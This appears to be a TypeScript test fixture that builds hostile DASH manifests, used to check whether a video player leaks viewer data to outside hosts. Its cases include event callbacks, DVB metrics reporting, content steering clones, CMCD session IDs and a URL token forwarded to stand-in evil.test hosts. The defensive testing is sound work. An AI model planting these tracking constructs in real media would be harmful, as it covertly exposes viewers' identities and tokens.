import { readFileSync } from 'node:fs';
import { dashAnswer, type HostileCase } from '../case.js';
import { prependEventMessage } from '../manifests/emsg.js';
import { createMpd, segmentTemplate } from '../manifests/dash.js';

const mpdUrl = '/case/manifest.mpd';

/** Returns a case with an MPD of our own media, and one construct that sends reports, identifies the viewer or loads something else. */
const constructCase = (
  name: string,
  catalogueRow: string,
  parts: Parameters<typeof createMpd>[0],
  constructs: string[],
  overrides: Partial<HostileCase> = {}
): HostileCase => ({
  name,
  catalogueRow,
  src: mpdUrl,
  files: { [mpdUrl]: dashAnswer(createMpd(parts)) },
  playsToSeconds: 1.5,
  constructs,
  ...overrides
});

const steeringElement = (url: string) =>
  `<ContentSteering defaultServiceLocation="a" queryBeforeStart="true">${url}</ContentSteering><BaseURL serviceLocation="a">/media/cmaf/</BaseURL>`;
const steeringWithClones = JSON.stringify({
  VERSION: 1,
  TTL: 1,
  'RELOAD-URI': 'https://reload.evil.test/s.dcsm',
  'PATHWAY-PRIORITY': ['clone', 'a'],
  'PATHWAY-CLONES': [{ 'BASE-ID': 'a', ID: 'clone', 'URI-REPLACEMENT': { HOST: 'https://clone.evil.test', PARAMS: { u: '42' } } }]
});

const callbackUrl = 'https://callback.evil.test/ping?u=42';
const ownCallbackUrl = '/case/ping?u=viewer-4711';
const eventStream = `<EventStream schemeIdUri="urn:mpeg:dash:event:callback:2015" value="1" timescale="1"><Event presentationTime="0" duration="1" id="7">${callbackUrl}</Event></EventStream>`;

const cmcdElement = `<ServiceDescription id="0"><ClientDataReporting><CMCDParameters schemeIdUri="urn:mpeg:dash:cta-5004:2023" version="1" mode="query" includeInRequests="segment mpd" keys="br d ot sid cid" contentID="c" sessionID="viewer-4711"/></ClientDataReporting></ServiceDescription>`;
const metricsElement = `<Metrics metrics="DVBErrors"><Reporting schemeIdUri="urn:dvb:dash:reporting:2014" value="1" dvb:reportingUrl="https://metrics.evil.test/report" dvb:probability="1000"/></Metrics>`;

const queryProperty = (year: 2014 | 2016) => {
  const prefix = year === 2014 ? 'up' : 'up16';
  const infoElement = year === 2014 ? 'UrlQueryInfo' : 'ExtUrlQueryInfo';
  return `<EssentialProperty schemeIdUri="urn:mpeg:dash:urlparam:${year}"><${prefix}:${infoElement} queryTemplate="$querypart$" useMPDUrlQuery="true"/></EssentialProperty>`;
};
const segmentsOnOtherHost = segmentTemplate(
  '',
  'https://cdn.evil.test/media/cmaf/video-240/$Number$.m4s',
  '/media/cmaf/video-240/init.mp4'
);

const setWithFont = `<AdaptationSet id="4" contentType="text" mimeType="text/vtt" lang="en"><SupplementalProperty schemeIdUri="urn:dvb:dash:fontdownload:2014" value="1" dvb:url="https://font.evil.test/f.woff" dvb:fontFamily="Evil" dvb:mimeType="application/font-woff"/><Representation id="t" bandwidth="256"><BaseURL>/media/captions/en.vtt</BaseURL></Representation></AdaptationSet>`;
const ttml = `<tt xmlns="http://www.w3.org/ns/ttml" xmlns:smpte="http://www.smpte-ra.org/schemas/2052-1/2010/smpte-tt" xmlns:ttp="http://www.w3.org/ns/ttml#parameter" xml:lang="en" ttp:profile="http://www.w3.org/ns/ttml/profile/imsc1/image"><head><layout><region xml:id="r" xmlns:tts="http://www.w3.org/ns/ttml#styling" tts:extent="100% 100%"/></layout></head><body><div region="r" begin="0s" end="60s" smpte:backgroundImage="https://image.evil.test/i.png"/></body></tt>`;
const ttmlSet = `<AdaptationSet id="4" contentType="text" mimeType="application/ttml+xml" lang="en"><Representation id="t" bandwidth="256"><BaseURL>/case/captions.ttml</BaseURL></Representation></AdaptationSet>`;

const clearKey = `<ContentProtection schemeIdUri="urn:mpeg:dash:mp4protection:2011" value="cenc" cenc:default_KID="9eb4050d-e44b-4802-932e-27d75083e266"/>`;
const protection = (inner: string) =>
  `${clearKey}<ContentProtection schemeIdUri="urn:uuid:e2719d58-a985-b3c9-781a-b030af78d30e" value="ClearKey1.0">${inner}</ContentProtection>`;
const pssh = 'AAAAVHBzc2gAAAAA7e+LqXnWSs6jyCfc1R0h7QAAADQIARIQnrQFDeRLSAKTLifXUIPiZhoIZXZpbHRlc3QiFGh0dHBzOi8vbGEuZXZpbC50ZXN0';

export const dashTracking: readonly HostileCase[] = [
  constructCase(
    'content steering from another host',
    'dash-steering',
    { head: steeringElement('https://steer.evil.test/s.dcsm'), segments: segmentTemplate('') },
    ['dash-steering']
  ),
  constructCase(
    'content steering from our host, with clones on other hosts',
    'dash-steering',
    { head: steeringElement('/case/steer.dcsm'), segments: segmentTemplate('') },
    ['dash-steering'],
    {
      files: {
        [mpdUrl]: dashAnswer(createMpd({ head: steeringElement('/case/steer.dcsm'), segments: segmentTemplate('') })),
        '/case/steer.dcsm': { body: steeringWithClones, type: 'application/json' }
      }
    }
  ),
  constructCase('metrics reported to another host (DVB)', 'dash-dvb-metrics', { tail: metricsElement }, ['dash-metrics']),
  constructCase('an event that calls another host', 'dash-event-callback', { period: eventStream }, ['dash-callback']),
  constructCase(
    'an event that calls our own host: no host may learn what is watched',
    'dash-event-callback',
    { period: eventStream.replace(callbackUrl, ownCallbackUrl) },
    ['dash-callback']
  ),
  constructCase(
    'an event that calls our own host by a URL that is also given as a clock',
    'dash-event-callback',
    {
      head: `<UTCTiming schemeIdUri="urn:x:http-none" value="${ownCallbackUrl}"/>`,
      period: eventStream.replace(callbackUrl, ownCallbackUrl)
    },
    ['dash-callback']
  ),
  constructCase(
    'an event inside a segment that calls another host (emsg)',
    'dash-event-callback',
    {
      set: '<InbandEventStream schemeIdUri="urn:mpeg:dash:event:callback:2015" value="1"/>',
      segments: segmentTemplate('/case/', '$Number$.m4s', '../media/cmaf/video-240/init.mp4').replace('/case/../', '/')
    },
    ['dash-callback'],
    {
      files: {
        [mpdUrl]: dashAnswer(
          createMpd({
            set: '<InbandEventStream schemeIdUri="urn:mpeg:dash:event:callback:2015" value="1"/>',
            segments: segmentTemplate('', '/case/seg/$Number$.m4s', '/media/cmaf/video-240/init.mp4')
          })
        ),
        ...Object.fromEntries(
          [1, 2, 3, 4].map((number) => [
            `/case/seg/${number}.m4s`,
            {
              body: prependEventMessage(
                callbackUrl,
                readFileSync(new URL(`../../../../demo/media/cmaf/video-240/${number}.m4s`, import.meta.url))
              ),
              type: 'video/mp4'
            }
          ])
        )
      }
    }
  ),
  constructCase('CMCD with an identifier of the visit, to our own host', 'dash-cmcd-from-mpd', { head: cmcdElement }, ['dash-cmcd']),
  constructCase('a token in a response header, which dash.js would send back (Common Access Token)', 'dash-cat', {}, [], {
    files: { [mpdUrl]: { ...dashAnswer(createMpd()), headers: { 'common-access-token': 'viewer-4711' } } },
    // The second segment has been requested by then.
    playsToSeconds: 2.5
  }),
  constructCase(
    'the query of the URL sent to another host (urlparam 2014)',
    'dash-query-pass',
    { set: queryProperty(2014), segments: segmentsOnOtherHost },
    ['dash-query', 'dash-segment-template'],
    { src: `${mpdUrl}?token=SECRET`, playsToSeconds: undefined, blocked: ['segment'] }
  ),
  constructCase(
    'the query of the URL sent to another host (urlparam 2016)',
    'dash-query-pass',
    { set: queryProperty(2016), segments: segmentsOnOtherHost },
    ['dash-query', 'dash-segment-template'],
    { src: `${mpdUrl}?token=SECRET`, playsToSeconds: undefined, blocked: ['segment'] }
  ),
  constructCase('a caption font on another host (DVB)', 'dash-dvb-font', { sets: setWithFont }, ['dash-font'], {
    viewerAction: 'show captions',
    blocked: ['font']
  }),
  constructCase('captions with an image on another host (IMSC)', 'dash-imsc-image', { sets: ttmlSet }, [], {
    viewerAction: 'show captions',
    files: { [mpdUrl]: dashAnswer(createMpd({ sets: ttmlSet })), '/case/captions.ttml': { body: ttml, type: 'application/ttml+xml' } }
  }),
  constructCase(
    'a licence server (dashif:Laurl)',
    'dash-drm-laurl',
    { set: protection('<dashif:Laurl Lic_type="EME-1.0">https://la.evil.test/l</dashif:Laurl>') },
    ['dash-license'],
    { playsToSeconds: undefined }
  ),
  constructCase(
    'a certificate of a licence server (dashif:Certurl)',
    'dash-drm-certurl',
    { set: protection('<dashif:Certurl certType="primary">https://cert.evil.test/c</dashif:Certurl>') },
    ['dash-license'],
    { playsToSeconds: undefined }
  ),
  constructCase(
    'a licence server in a PSSH box',
    'dash-drm-laurl',
    {
      set: `${clearKey}<ContentProtection schemeIdUri="urn:uuid:edef8ba9-79d6-4ace-a3c8-27dcd51d21ed"><cenc:pssh>${pssh}</cenc:pssh></ContentProtection>`
    },
    ['dash-license'],
    { playsToSeconds: undefined }
  ),
  constructCase(
    'a link to more information',
    'dash-baseurl',
    { head: '<ProgramInformation moreInformationURL="https://more.evil.test/"><Title>t</Title></ProgramInformation>' },
    ['dash-information']
  )
];
